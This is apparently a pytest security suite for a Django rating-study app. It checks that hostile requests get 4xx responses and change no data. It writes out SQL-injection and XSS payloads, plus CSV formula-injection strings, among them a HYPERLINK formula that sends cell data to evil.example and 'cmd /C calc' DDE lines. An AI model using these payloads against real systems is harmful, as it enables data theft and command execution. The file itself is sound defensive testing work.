"""Hostile requests against every public endpoint: each gets a clear 4xx and changes nothing (rows counted before
and after). Other raters' trials, scores out of range, SQL-like and script payloads in every field, oversized
bodies, missing or forged CSRF tokens, guessed study/rater/stimulus tokens and ids, other researchers' studies."""

import json
import secrets
from urllib.parse import urlencode

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from mos_study.models import Method, Output, Rater, Rating, RatingSession, Stimulus, Study, TestImage, Trial
from mos_study.services.rating import submit_rating
from mos_study.services.sessions import start_session
from mos_study.services.study_setup import create_study
from tests.support.study_factory import store_outputs

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_cache")]  # fresh rate-limit counters

SQL = ["' OR '1'='1", "1; DROP TABLE mos_study_rating; --", "1 UNION SELECT password FROM auth_user", '" OR ""="']
SCRIPT = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)"]
HOSTILE = SQL + SCRIPT
MODELS = [Study, Stimulus, Rater, RatingSession, Trial, Rating, Method, TestImage, Output, User]


def snapshot():
    """Every row that a request could change, in a comparable form."""
    state = {model.__name__: model.objects.count() for model in MODELS}
    state["ratings"] = sorted(Rating.objects.values_list("trial_id", "score", "response_ms"))
    state["studies"] = sorted(Study.objects.values_list("pk", "status", "token", "owner_id"))
    state["raters"] = sorted(Rater.objects.values_list("pk", "participant_id", "token"))
    state["sessions"] = sorted(RatingSession.objects.values_list("pk", "finished"))
    return state


@pytest.fixture
def world(settings, tmp_path):
    """Two researchers' studies, two raters in the first and one in the second, one rating stored."""
    settings.MEDIA_ROOT = tmp_path
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    store_outputs(tmp_path)
    alice = User.objects.create_user("alice", password="pw")
    bob = User.objects.create_user("bob", password="pw")
    study_a = create_study("a", ["Set5"], ["nn", "bicubic"], owner=alice, run_missing=False)
    study_b = create_study("b", ["Set5"], ["bicubic", "srgan-vgg54"], owner=bob, run_missing=False)
    rater_1 = start_session(study_a).rater
    rater_2 = start_session(study_a).rater
    rater_b = start_session(study_b).rater
    first = rater_1.sessions.get().trials.order_by("position").first()
    submit_rating(rater_1, first.token, 4)
    return {
        "alice": alice,
        "bob": bob,
        "study_a": study_a,
        "study_b": study_b,
        "rater_1": rater_1,
        "rater_2": rater_2,
        "rater_b": rater_b,
        "rated": first,
        "unrated": rater_1.sessions.get().trials.filter(rating__isnull=True).order_by("position").first(),
    }


def rate_url(rater):
    return reverse("mos_study:submit_rating", args=[rater.token])


def post_json(client, url, body, **extra):
    data = body if isinstance(body, (str, bytes)) else json.dumps(body)
    return client.post(url, data, content_type="application/json", HTTP_ACCEPT="application/json", **extra)


def shown_raw(payload, html):
    """True when a payload with HTML-special characters appears unescaped in a page."""
    return any(c in payload for c in "<>\"'") and payload in html


def assert_refused(response, statuses):
    assert response.status_code in statuses, (response.status_code, response.content[:300])
    body = response.content.decode(errors="replace")
    if response["Content-Type"].startswith("application/json"):
        answer = response.json()
        assert answer.get("message") or answer.get("error"), "a refusal says why"
        assert response["X-Content-Type-Options"] == "nosniff"  # an echoed payload is never sniffed as HTML
    else:
        assert not any(shown_raw(payload, body) for payload in HOSTILE)


def rating_bodies(world):
    own = world["unrated"].token
    other_rater = world["rater_2"].sessions.get().trials.first().token
    other_study = world["rater_b"].sessions.get().trials.first().token
    bodies = [
        ({"trial": other_rater, "score": 3}, {404}),  # another rater's trial, same study
        ({"trial": other_study, "score": 3}, {404}),  # another study's trial
        ({"trial": world["rated"].token, "score": 1}, {409}),  # changing a stored rating
        ({"score": 3}, {404}),
        ({"trial": own}, {400}),
        ({"trial": own, "score": 3, "response_ms": -1}, {400}),
        ({"trial": own, "score": 3, "response_ms": "1e999"}, {400}),
    ]
    bodies += [
        ({"trial": own, "score": score}, {400})
        for score in [0, 6, -1, 2.5, 1e308, "6", "", None, True, [3], {"$gt": 0}, "NaN", "Infinity"]
    ]
    bodies += [({"trial": payload, "score": 3}, {404}) for payload in HOSTILE]
    bodies += [({"trial": own, "score": payload}, {400}) for payload in HOSTILE]
    bodies += [({"trial": own, "score": 3, "response_ms": payload}, {400}) for payload in HOSTILE]
    bodies += [({"trial": [own], "score": 3}, {400, 404}), ({"trial": {"token": own}, "score": 3}, {400, 404})]
    bodies += [(raw, {400}) for raw in ["not json", "[1, 2]", '"a string"', "", "{", b"\xff\xfe\x00"]]
    return bodies


def test_hostile_rating_bodies_are_refused_and_change_nothing(world):
    client = Client()
    for body, statuses in rating_bodies(world):
        before = snapshot()
        assert_refused(post_json(client, rate_url(world["rater_1"]), body), statuses)
        assert snapshot() == before, body


def test_wrong_methods_on_the_rating_endpoint(world):
    client, url = Client(), rate_url(world["rater_1"])
    before = snapshot()
    for method in ("get", "put", "patch", "delete"):
        assert getattr(client, method)(url).status_code == 405, method
    assert snapshot() == before


def guessed_tokens(world):
    """What an attacker would try: random tokens, small ids, tokens of the wrong kind, injections, traversal."""
    guesses = [secrets.token_urlsafe(16), "1", "0", str(world["study_a"].pk), "admin", "..", "%2e%2e%2fsettings"]
    return guesses + [world["study_a"].token[:-1] + "A", world["rater_1"].token.upper()] + SQL


@pytest.mark.parametrize(
    "route, method",
    [
        ("start", "get"),
        ("start", "post"),
        ("rate", "get"),
        ("session_state", "get"),
        ("submit_rating", "post"),
        ("image", "get"),
    ],
)
def test_guessed_tokens_find_nothing(world, route, method):
    client = Client()
    for guess in guessed_tokens(world):
        if route == "start" and guess == world["study_a"].token:
            continue
        url = reverse(f"mos_study:{route}", args=[guess])
        before = snapshot()
        response = getattr(client, method)(url, {"consent": "on"} if method == "post" and route == "start" else {})
        assert response.status_code in (404, 405), (route, guess, response.status_code)
        assert snapshot() == before


def test_tokens_are_long_random_and_not_ids(world):
    tokens = [s.token for s in Study.objects.all()] + [r.token for r in Rater.objects.all()]
    tokens += list(Trial.objects.values_list("token", flat=True)) + list(
        Stimulus.objects.values_list("token", flat=True)
    )
    assert len(set(tokens)) == len(tokens)
    assert all(len(token) >= 22 for token in tokens)  # 16 random bytes, base64url: 128 bits
    # A rater token is not a study link and a trial token is not a rater's page.
    assert Client().get(reverse("mos_study:rate", args=[world["study_a"].token])).status_code == 404
    assert Client().get(reverse("mos_study:start", args=[world["rater_1"].token])).status_code == 404


def test_rating_another_raters_trial_through_their_image_url_changes_nothing(world):
    """A rater who learns another's trial token (e.g. from an image URL) still cannot rate it."""
    other = world["rater_2"].sessions.get().trials.first()
    before = snapshot()
    assert Client().get(reverse("mos_study:image", args=[other.token])).status_code == 200  # images are public
    assert_refused(post_json(Client(), rate_url(world["rater_1"]), {"trial": other.token, "score": 5}), {404})
    assert snapshot() == before


@pytest.mark.parametrize("payload", HOSTILE + ["x" * 201])
def test_hostile_participant_ids(world, payload):
    """Panel ids are free text: a hostile one is stored verbatim (or refused when too long), never run or shown raw."""
    client = Client()
    url = reverse("mos_study:start", args=[world["study_a"].token])
    page = client.get(url, {"pid": payload})
    assert not shown_raw(payload, page.content.decode())
    before = snapshot()
    response = client.post(f"{url}?pid={payload}", {"consent": "on"})
    if len(payload) > 200:
        assert response.status_code == 400 and snapshot() == before
        return
    assert response.status_code == 302
    assert Rater.objects.filter(participant_id=payload).count() == 1
    Client().post(f"{url}?pid={payload}", {"consent": "on"})  # the same id resumes, it does not add a rater
    assert Rater.objects.filter(participant_id=payload).count() == 1
    researcher = Client()
    researcher.force_login(world["alice"])
    for page_name in ("study_detail", "study_results"):
        shown = researcher.get(reverse(f"mos_study:{page_name}", args=[world["study_a"].pk])).content.decode()
        assert not shown_raw(payload, shown)


def test_hostile_consent_form_fields(world):
    url = reverse("mos_study:start", args=[world["study_a"].token])
    before = snapshot()
    for data in [{}, {"consent": ""}, {"participant_id": "x" * 5000, "consent": "on"}]:
        response = Client().post(url, data)
        assert response.status_code in (200, 400), data  # the form again, with its error
        assert snapshot() == before, data


def test_oversized_bodies_are_refused(world):
    limit = django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    padding = "x" * (limit + 1)
    before = snapshot()
    response = post_json(
        Client(), rate_url(world["rater_1"]), {"trial": world["unrated"].token, "score": 3, "pad": padding}
    )
    assert response.status_code == 400
    form = Client().post(
        reverse("mos_study:start", args=[world["study_a"].token]), {"consent": "on", "participant_id": padding}
    )
    assert form.status_code == 400
    login = Client().post(reverse("mos_study:login"), {"username": padding, "password": "x"})
    assert login.status_code == 400
    assert snapshot() == before


def test_missing_or_forged_csrf_is_refused(world):
    browser = Client(enforce_csrf_checks=True)
    browser.get(reverse("mos_study:rate", args=[world["rater_1"].token]))  # a real page sets the CSRF cookie
    body = {"trial": world["unrated"].token, "score": 3}
    before = snapshot()
    missing = post_json(browser, rate_url(world["rater_1"]), body)
    forged = post_json(browser, rate_url(world["rater_1"]), body, HTTP_X_CSRFTOKEN="A" * 32)
    no_cookie = post_json(
        Client(enforce_csrf_checks=True),
        rate_url(world["rater_1"]),
        body,
        HTTP_X_CSRFTOKEN=browser.cookies["csrftoken"].value,
    )
    for response in (missing, forged, no_cookie):
        assert response.status_code == 403 and response.json()["error"] == "csrf_failed"
    assert browser.post(reverse("mos_study:start", args=[world["study_a"].token]), {"consent": "on"}).status_code == 403
    assert browser.post(reverse("mos_study:login"), {"username": "alice", "password": "pw"}).status_code == 403
    assert snapshot() == before


def test_researcher_pages_need_login_and_permission(world):
    pk_a, pk_b = world["study_a"].pk, world["study_b"].pk
    pages = ["study_detail", "ratings_csv", "study_results", "mos_svg"]
    anonymous, bob = Client(), Client()
    bob.force_login(world["bob"])
    before = snapshot()
    for page in pages:
        url = reverse(f"mos_study:{page}", args=[pk_a])
        response = anonymous.get(url)
        assert response.status_code == 302 and reverse("mos_study:login") in response["Location"], page
        assert bob.get(url).status_code == 403, page  # someone else's study
        # His own study opens (the figure is 404 "no ratings yet" while study b has none).
        assert bob.get(reverse(f"mos_study:{page}", args=[pk_b])).status_code in (200, 404), page
        assert bob.get(reverse(f"mos_study:{page}", args=[987654])).status_code == 404, page
    listing = bob.get(reverse("mos_study:dashboard")).content.decode()
    assert world["study_b"].name in listing and world["study_a"].token not in listing
    assert anonymous.get("/admin/mos_study/rating/").status_code == 302
    assert bob.get("/admin/mos_study/rating/").status_code == 302  # not staff
    assert snapshot() == before


def test_a_closed_study_takes_no_ratings(world):
    # Closed with screen-out: no rating from a session under way either (closed with "finish", the default, lets a
    # rater in a session finish: tests/mos_study/test_study_views.py).
    Study.objects.filter(pk=world["study_a"].pk).update(status=Study.Status.CLOSED, on_close=Study.OnClose.SCREEN_OUT)
    before = snapshot()
    response = post_json(Client(), rate_url(world["rater_1"]), {"trial": world["unrated"].token, "score": 3})
    assert_refused(response, {409})
    assert (
        Client().post(reverse("mos_study:start", args=[world["study_a"].token]), {"consent": "on"}).status_code == 409
    )
    assert snapshot() == before


def test_flooding_the_rating_endpoint_is_rate_limited(world, settings):
    settings.SRMOS_RATE_LIMITS = {"rating": {"ip": "1000/m", "token": "5/m"}}
    client, url = Client(), rate_url(world["rater_1"])
    trials = list(world["rater_1"].sessions.get().trials.filter(rating__isnull=True).order_by("position"))
    answers = [post_json(client, url, {"trial": t.token, "score": 3}).status_code for t in trials[:5]]
    before = snapshot()
    flood = [post_json(client, url, {"trial": trials[5].token, "score": 3}) for _ in range(20)]
    assert answers == [201] * 5
    assert {r.status_code for r in flood} == {429} and int(flood[0]["Retry-After"]) >= 1
    assert snapshot() == before


# --------------------------------------------------------------------------- issue 14: hardening

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=3+3",
]


def formula_cells(data):
    """Cells of CSV bytes that a spreadsheet would run as a formula (plain numbers like -0.5 are fine)."""
    import csv
    import io

    from sr_models.csvcells import PLAIN_NUMBER

    found = []
    for row in csv.reader(io.StringIO(data.decode())):
        found += [cell for cell in row if cell and cell[0] in "=+-@\t\r" and not PLAIN_NUMBER.fullmatch(cell)]
    return found


def test_csv_formula_injection_through_panel_ids_is_neutralised(world):
    """Panel ids given as ?PROLIFIC_PID= reach ratings.csv, screening.csv and the subjective model's rater table with
    a leading quote; numbers (scores, negative biases) stay numbers."""
    from mos_study.services import exports

    study = world["study_a"]
    url = reverse("mos_study:start", args=[study.token])
    for payload in FORMULAS:
        response = Client().post(f"{url}?{urlencode({'PROLIFIC_PID': payload})}", {"consent": "on"})
        assert response.status_code == 302
    for rater in Rater.objects.filter(study=study, participant_id__in=[f.strip() for f in FORMULAS]):
        for n, trial in enumerate(rater.sessions.get().trials.order_by("position")):
            submit_rating(rater, trial.token, 1 + (n + rater.pk) % 5)
    stored = set(Rater.objects.filter(study=study).values_list("participant_id", flat=True))
    assert {f.strip() for f in FORMULAS} <= stored  # stored verbatim (but stripped); only the CSV cells are quoted
    researcher = Client()
    researcher.force_login(world["alice"])
    files = exports.build_export(study).files
    streamed = b"".join(researcher.get(reverse("mos_study:ratings_csv", args=[study.pk])).streaming_content)
    export_ratings = b"".join(
        researcher.get(reverse("mos_study:export_file", args=[study.pk, "ratings.csv"])).streaming_content
    )
    checked = {"dashboard ratings.csv": streamed, "export ratings.csv": export_ratings}
    checked.update({name: data for name, data in files.items() if name.endswith(".csv")})
    for name in ("ratings.csv", "screening.csv", "subjective_model_raters.csv"):
        assert name in files, name
    for name, data in checked.items():
        assert formula_cells(data) == [], name
    assert "'=HYPERLINK(" in files["ratings.csv"].decode()
    assert "'@SUM(1+1)" in files["screening.csv"].decode()


def test_benchmark_tables_neutralise_formula_names():
    from benchmarks.tables import PER_IMAGE_COLUMNS, csv_text
    from sr_models.csvcells import safe_cell

    rows = [{"dataset": "Set5", "image": "=1+1", "method": "@evil", "psnr_y": -1.5, "ssim_y": "-0.25"}]
    text = csv_text(PER_IMAGE_COLUMNS, rows)
    assert text.splitlines()[1] == "Set5,'=1+1,'@evil,-1.5,-0.25"
    assert [safe_cell(v) for v in ("P00", "-3", "1e-05", 4, -2.5, "-", "+x")] == [
        "P00",
        "-3",
        "1e-05",
        4,
        -2.5,
        "'-",
        "'+x",
    ]


def queries_with_nul(client_call):
    """Run a request; return its response and the SQL it ran that carried a NUL byte (PostgreSQL: a 500)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        response = client_call()
    return response, [q["sql"] for q in queries.captured_queries if "\x00" in q["sql"]]


def test_nul_bytes_deep_json_and_huge_numbers_are_400_not_500(world, caplog):
    """NUL in any token or panel id, a 400-digit score or response time, JSON nested 100,000 deep: 400/404, one
    log line each, no query carrying the NUL (PostgreSQL refuses it with an error, which was a 500)."""
    own, rater = world["unrated"].token, world["rater_1"]
    study_url = reverse("mos_study:start", args=[world["study_a"].token])
    requests = [
        (lambda c: c.get(study_url + "?PROLIFIC_PID=a%00b"), {400}),
        (lambda c: c.post(study_url + "?pid=%00", {"consent": "on"}), {400}),
        (lambda c: c.post(study_url, {"consent": "on", "participant_id": "x\x00y"}), {400}),
        (lambda c: c.get(reverse("mos_study:start", args=["abc\x00def"])), {400, 404}),
        (lambda c: c.get(reverse("mos_study:rate", args=[rater.token + "\x00"])), {400, 404}),
        (lambda c: c.get(reverse("mos_study:session_state", args=["\x00"])), {400, 404}),
        (lambda c: c.get(reverse("mos_study:image", args=[own + "\x00"])), {400, 404}),
        (
            lambda c: post_json(c, reverse("mos_study:submit_rating", args=["a\x00"]), {"trial": own, "score": 3}),
            {400, 404},
        ),
        (lambda c: post_json(c, rate_url(rater), {"trial": own + "\x00", "score": 3}), {404}),
        (lambda c: post_json(c, rate_url(rater), {"trial": "\x00", "score": 3}), {404}),
        (lambda c: post_json(c, rate_url(rater), '{"trial": "%s", "score": %s}' % (own, "9" * 400)), {400}),
        (lambda c: post_json(c, rate_url(rater), '{"trial": "%s", "score": -%s}' % (own, "9" * 400)), {400}),
        (
            lambda c: post_json(
                c, rate_url(rater), '{"trial": "%s", "score": 3, "response_ms": %s}' % (own, "9" * 400)
            ),
            {400, 201},
        ),
        (lambda c: post_json(c, rate_url(rater), "[" * 100_000 + "]" * 100_000), {400}),
        (lambda c: post_json(c, rate_url(rater), '{"a":' * 100_000 + "1" + "}" * 100_000), {400}),
    ]
    for call, statuses in requests:
        Rating.objects.filter(trial__token=own).delete()
        before = snapshot()
        caplog.clear()
        response, nul_queries = queries_with_nul(lambda: call(Client()))
        assert response.status_code in statuses, (response.status_code, response.content[:200])
        assert nul_queries == []
        if response.status_code != 201:
            assert snapshot() == before
        else:  # a huge response time is clamped, the rating itself is fine
            assert Rating.objects.get(trial__token=own).response_ms == 10 * 60 * 1000
        errors = [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL") or r.exc_info]
        assert errors == [], [r.getMessage() for r in errors]
        assert len(caplog.records) <= 2  # one line (the refusal; Django's "Bad Request: ..." line at most)


@pytest.mark.parametrize("score", ["4", " 5\n", "\u0663", "\uff14", 4.0, 5.0, True, False, "4.0", "0x4", None, 10**400])
def test_a_score_is_a_json_integer_and_nothing_else(world, score):
    before = snapshot()
    body = json.dumps({"trial": world["unrated"].token, "score": score}) if score != 10**400 else None
    body = body or '{"trial": "%s", "score": %s}' % (world["unrated"].token, 10**400)
    response = post_json(Client(), rate_url(world["rater_1"]), body)
    assert_refused(response, {400})
    assert snapshot() == before


def test_downloads_refuse_post_and_are_never_cached(world):
    """POST on ratings.csv and the other downloads is 405 (and changes nothing); every researcher download says
    Cache-Control: private, no-store."""
    study = world["study_a"]
    researcher = Client()
    researcher.force_login(world["alice"])
    downloads = [
        reverse("mos_study:ratings_csv", args=[study.pk]),
        reverse("mos_study:export_file", args=[study.pk, "ratings.csv"]),
        reverse("mos_study:export_file", args=[study.pk, "mos.csv"]),
        reverse("mos_study:export_zip", args=[study.pk]),
        reverse("mos_study:mos_svg", args=[study.pk]),
    ]
    pages = [reverse("mos_study:dashboard"), reverse("mos_study:study_detail", args=[study.pk])]
    before = snapshot()
    for url in downloads + pages:
        for method in ("post", "put", "delete"):
            assert getattr(researcher, method)(url).status_code == 405, (method, url)
    assert snapshot() == before
    for url in downloads:
        response = researcher.get(url)
        assert response.status_code == 200, url
        assert response["Cache-Control"] == "private, no-store", url


def test_security_headers_on_every_response(world):
    """Content-Security-Policy (scripts only from our own files) and Permissions-Policy everywhere: rater pages,
    JSON, errors, researcher pages, the admin, static files; and no template has an inline script or handler."""
    import re
    from pathlib import Path

    researcher = Client()
    researcher.force_login(world["alice"])
    rater = world["rater_1"]
    answers = [
        Client().get(reverse("mos_study:start", args=[world["study_a"].token])),
        Client().get(reverse("mos_study:rate", args=[rater.token])),
        Client().get(reverse("mos_study:session_state", args=[rater.token])),
        post_json(Client(), rate_url(rater), {"trial": "nope", "score": 3}),
        Client().get("/no/such/page/"),
        Client().get(reverse("mos_study:login")),
        Client().get("/admin/login/"),
        researcher.get(reverse("mos_study:study_results", args=[world["study_a"].pk])),
        researcher.get(reverse("mos_study:mos_svg", args=[world["study_a"].pk])),
    ]
    for response in answers:
        csp = response["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
        assert "object-src 'none'" in csp and "frame-ancestors 'none'" in csp
        assert "camera=()" in response["Permissions-Policy"] and "microphone=()" in response["Permissions-Policy"]
    templates = Path(__file__).resolve().parents[2] / "mos_study" / "templates"
    for template in templates.rglob("*.html"):
        text = template.read_text()
        for tag in re.findall(r"<script\b[^>]*>", text):
            assert "src=" in tag or "application/json" in tag, (template, tag)  # no inline script
        assert not re.search(r"\son[a-z]+\s*=", text), template  # no inline event handler
        assert "javascript:" not in text, template


@pytest.mark.parametrize("error_class", ["OperationalError", "InterfaceError"])
def test_a_database_outage_is_a_503_with_retry_after_logged_once(world, caplog, monkeypatch, error_class):
    """The database stops answering: rater endpoints answer 503 JSON (the app's error shape) with Retry-After, the
    rating page a short HTML 503; the log says once that the database is unreachable (no traceback per request),
    and once that it is back."""
    import django.db
    from django.db.backends.utils import CursorWrapper

    from mos_study.middleware import outage_log

    monkeypatch.setattr(outage_log, "down_since", None)
    monkeypatch.setattr(outage_log, "refused", 0)
    rater, own = world["rater_1"], world["unrated"].token
    before = snapshot()
    error = getattr(django.db, error_class)

    def unreachable(self, *args, **kwargs):
        raise error('connection to server at "127.0.0.1", port 5432 failed: Connection refused')

    caplog.clear()
    with monkeypatch.context() as patch:
        patch.setattr(CursorWrapper, "execute", unreachable)
        patch.setattr(CursorWrapper, "executemany", unreachable)
        answers = [post_json(Client(), rate_url(rater), {"trial": own, "score": 3}) for _ in range(5)]
        answers.append(Client().get(reverse("mos_study:session_state", args=[rater.token])))
        page = Client().get(reverse("mos_study:rate", args=[rater.token]))
        consent = Client().get(reverse("mos_study:start", args=[world["study_a"].token]))
    for response in answers:
        assert response.status_code == 503
        assert response["Content-Type"].startswith("application/json")
        assert response.json()["error"] == "database_unavailable" and response.json()["retry_after"] >= 1
        assert int(response["Retry-After"]) >= 1
    for response in (page, consent):
        assert response.status_code == 503 and int(response["Retry-After"]) >= 1
        assert b"Server busy" in response.content
    said = [r.getMessage() for r in caplog.records if "unreachable" in r.getMessage()]
    assert len(said) == 1 and error_class in said[0], said
    assert not [r for r in caplog.records if r.exc_info], "no traceback per request"
    assert not [r for r in caplog.records if "Service Unavailable" in r.getMessage()]
    assert snapshot() == before
    assert post_json(Client(), rate_url(rater), {"trial": own, "score": 3}).status_code == 201  # back
    assert any("reachable again" in r.getMessage() for r in caplog.records)


ADMIN_MODELS = ["study", "stimulus", "rater", "ratingsession", "rating", "method", "output", "benchmarkrun", "metric"]


def staff_client(user):
    from django.contrib.auth.models import Permission

    user.is_staff = True
    user.save()
    user.user_permissions.add(*Permission.objects.filter(content_type__app_label="mos_study"))
    client = Client()
    client.force_login(user)
    return client


def test_the_admin_shows_a_researcher_only_their_studies_rows(world):
    """Two staff researchers with every permission of the app: each admin list, search, filter and change page shows
    only the studies they may see (another's by direct URL is 404); a superuser sees all."""
    from mos_study.models import Method

    Method.objects.filter(name="srgan-vgg54").update(kind=Method.Kind.EXTERNAL, owner=world["bob"])
    bob_rater, bob_session = world["rater_b"], world["rater_b"].sessions.get()
    Rater.objects.filter(pk=bob_rater.pk).update(participant_id="BOB-PANEL-42")
    Study.objects.filter(pk=world["study_b"].pk).update(title="Bobs-secret-study")
    secrets_of_b = [bob_rater.token, bob_session.completion_code, "BOB-PANEL-42", "Bobs-secret-study"]
    secrets_of_b += [f"/admin/mos_study/study/{world['study_b'].pk}/change/"]
    alice = staff_client(world["alice"])
    before = snapshot()
    for model in ADMIN_MODELS:
        listing = alice.get(f"/admin/mos_study/{model}/")
        assert listing.status_code == 200, model
        assert not any(secret in listing.content.decode() for secret in secrets_of_b), model
    assert "srgan-vgg54" not in alice.get("/admin/mos_study/method/").content.decode()
    searched = alice.get("/admin/mos_study/rater/", {"q": "BOB-PANEL-42"}).content.decode()
    assert f"/admin/mos_study/rater/{bob_rater.pk}/change/" not in searched and "0 raters" in searched
    filtered = alice.get("/admin/mos_study/rater/").content.decode()
    assert f"study__id__exact={world['study_b'].pk}" not in filtered  # the filter offers only her study
    rows_of_b = {
        "study": world["study_b"].pk,
        "stimulus": world["study_b"].stimuli.first().pk,
        "rater": bob_rater.pk,
        "ratingsession": bob_session.pk,
        "method": Method.objects.get(name="srgan-vgg54").pk,
    }
    for model, pk in rows_of_b.items():
        for page in ("change", "delete", "history"):
            response = alice.get(f"/admin/mos_study/{model}/{pk}/{page}/")
            assert response.status_code == 404, (model, page, response.status_code)
    own = alice.get(f"/admin/mos_study/rater/{world['rater_1'].pk}/change/")
    assert own.status_code == 200 and world["rater_1"].token in own.content.decode()
    # A stimulus change form offers only her own studies and outputs.
    page = alice.get(f"/admin/mos_study/stimulus/{world['study_a'].stimuli.first().pk}/change/")
    fields = page.context["adminform"].form.fields
    assert list(fields["study"].queryset) == [world["study_a"]]
    assert "srgan-vgg54" not in {output.method.name for output in fields["output"].queryset}
    # Deleting another's rows through the changelist action does nothing.
    alice.post(
        "/admin/mos_study/rater/", {"action": "delete_selected", "_selected_action": [bob_rater.pk], "post": "yes"}
    )
    assert snapshot() == before
    root = User.objects.create_superuser("root", password="pw")
    superuser = Client()
    superuser.force_login(root)
    assert "BOB-PANEL-42" in superuser.get("/admin/mos_study/rater/").content.decode()
    assert superuser.get(f"/admin/mos_study/rater/{bob_rater.pk}/change/").status_code == 200


@pytest.mark.parametrize("login_url", ["/login/", "/admin/login/"])
def test_failed_logins_are_throttled_per_account_and_address(world, settings, monkeypatch, login_url):
    """After N wrong passwords for an account (or from an address) a login POST is 429 with Retry-After and the
    password is not even checked; the right password then waits too; other accounts from elsewhere still log in."""
    import django.contrib.auth.forms as auth_forms

    settings.SRMOS_RATE_LIMITS = {**settings.SRMOS_RATE_LIMITS, "login": {"ip": "8/h", "token": "5/h"}}
    checked = []
    real = auth_forms.authenticate
    monkeypatch.setattr(auth_forms, "authenticate", lambda *a, **k: checked.append(k.get("username")) or real(*a, **k))
    world["alice"].is_staff = True
    world["alice"].save()
    before = snapshot()
    wrong = [Client().post(login_url, {"username": "alice", "password": f"guess{i}"}) for i in range(5)]
    assert [r.status_code for r in wrong] == [200] * 5 and len(checked) == 5
    refused = Client().post(login_url, {"username": "Alice", "password": "pw"})  # the right one, any case
    assert refused.status_code == 429 and int(refused["Retry-After"]) >= 1 and len(checked) == 5
    # Per address: other accounts from the same address, then a fresh address still gets through.
    more = [Client().post(login_url, {"username": f"user{i}", "password": "x"}).status_code for i in range(4)]
    assert more == [200, 200, 200, 429]
    elsewhere = Client(REMOTE_ADDR="10.9.8.7").post(login_url, {"username": "bob", "password": "pw"})
    assert elsewhere.status_code in (200, 302)
    assert snapshot() == before


def test_a_refused_login_flood_is_answered_before_sessions_csrf_and_the_cache(world, settings, monkeypatch):
    """Once an address is over its failed-login limit, its further login POSTs are 429 from the first middleware:
    no CSRF check (a POST without a token is 429, not 403), no cache round trip, no password check; when the
    window ends the address may try again."""
    import time

    import mos_study.security as security

    settings.SRMOS_RATE_LIMITS = {**settings.SRMOS_RATE_LIMITS, "login": {"ip": "3/h", "token": "off"}}
    answers = [Client().post("/login/", {"username": f"u{i}", "password": "x"}).status_code for i in range(4)]
    assert answers == [200, 200, 200, 429]

    class NoCache:
        def __getitem__(self, name):
            raise AssertionError("the cache was asked")

    monkeypatch.setattr(security, "caches", NoCache())
    no_token = Client(enforce_csrf_checks=True).post("/login/", {"username": "v", "password": "x"})
    assert no_token.status_code == 429 and 1 <= int(no_token["Retry-After"]) <= 3600
    assert Client().post("/admin/login/", {"username": "w", "password": "x"}).status_code == 429
    assert Client(REMOTE_ADDR="10.4.4.4").post("/login/", {"username": "v", "password": "x"}).status_code == 200
    monkeypatch.undo()  # the real cache again, and an hour later: a new window, the address starts from zero
    later = time.time() + 3601
    monkeypatch.setattr(security.time, "time", lambda: later)
    assert Client().post("/login/", {"username": "u9", "password": "x"}).status_code == 200


def test_consent_is_limited_per_address_and_a_lab_can_raise_it(world, settings):
    """One address cannot fill a study with empty sessions: after the per-address consent limit new raters from it
    get 429; the limit is a setting (SRMOS_RATE_LIMITS consent/ip) that a lab behind one NAT address raises."""
    url = reverse("mos_study:start", args=[world["study_a"].token])
    settings.SRMOS_RATE_LIMITS = {**settings.SRMOS_RATE_LIMITS, "consent": {"ip": "3/h"}}
    answers = [Client().post(url, {"consent": "on"}).status_code for _ in range(3)]
    assert answers == [302] * 3
    before = snapshot()
    refused = Client().post(url, {"consent": "on"})
    assert refused.status_code == 429 and int(refused["Retry-After"]) >= 1
    assert snapshot() == before
    assert Client(REMOTE_ADDR="10.1.2.3").post(url, {"consent": "on"}).status_code == 302  # another address
    settings.SRMOS_RATE_LIMITS = {**settings.SRMOS_RATE_LIMITS, "consent": {"ip": "500/h"}}  # the lab's setting
    assert Client().post(url, {"consent": "on"}).status_code == 302


def test_a_known_panel_id_alone_resumes_nothing(world):
    """A panel id someone knows opens neither that participant's session nor its completion code from another
    browser; the same browser (cookie) or the panel's own SESSION_ID resumes it (issue 14 #14)."""
    url = reverse("mos_study:start", args=[world["study_a"].token])
    owner = Client()
    first = owner.post(f"{url}?PROLIFIC_PID=P-777&STUDY_ID=S1&SESSION_ID=sess-abc", {"consent": "on"})
    assert first.status_code == 302
    rater = Rater.objects.get(participant_id="P-777")
    before = snapshot()
    for query in ("PROLIFIC_PID=P-777", "PROLIFIC_PID=P-777&SESSION_ID=guess", "pid=P-777"):
        for method in ("get", "post"):
            data = {"consent": "on"} if method == "post" else None
            response = getattr(Client(), method)(f"{url}?{query}", data)
            assert response.status_code == 403, (query, method, response.status_code)
            assert rater.token not in response.get("Location", "") and rater.token not in response.content.decode()
    assert snapshot() == before
    assert owner.get(f"{url}?PROLIFIC_PID=P-777")["Location"].endswith(f"/r/{rater.token}/")  # same browser
    again = Client().get(f"{url}?PROLIFIC_PID=P-777&STUDY_ID=S1&SESSION_ID=sess-abc")  # the panel's own link
    assert again.status_code == 302 and again["Location"].endswith(f"/r/{rater.token}/")
